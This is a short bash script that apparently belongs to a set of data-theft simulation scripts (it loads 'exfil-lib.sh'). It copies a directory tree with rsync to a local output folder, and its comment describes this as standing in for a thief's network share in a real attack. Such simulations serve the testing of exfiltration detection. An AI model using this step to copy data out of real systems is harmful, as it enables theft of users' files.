#!/usr/bin/env bash
# An rsync mirror of the tree to a directory the thief controls (a network
# share in the real attack).
. "$(dirname "$0")/exfil-lib.sh"
rsync -a "$DIR/" "$OUT/mirror/" 2>/dev/null
